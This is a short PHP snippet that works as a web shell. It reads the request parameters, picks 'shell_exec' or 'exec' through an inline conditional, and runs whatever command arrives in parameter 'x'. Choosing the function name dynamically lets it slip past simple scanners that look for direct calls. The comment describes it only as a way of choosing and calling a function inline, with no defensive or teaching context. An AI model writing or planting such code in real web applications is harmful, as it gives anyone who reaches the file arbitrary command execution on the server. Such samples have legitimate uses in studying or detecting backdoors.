<?php
// The function is chosen inline between two names by a condition and called at once.
$q = $_REQUEST;
(empty($q['m']) ? 'shell_exec' : 'exec')($q['x'] ?? '');
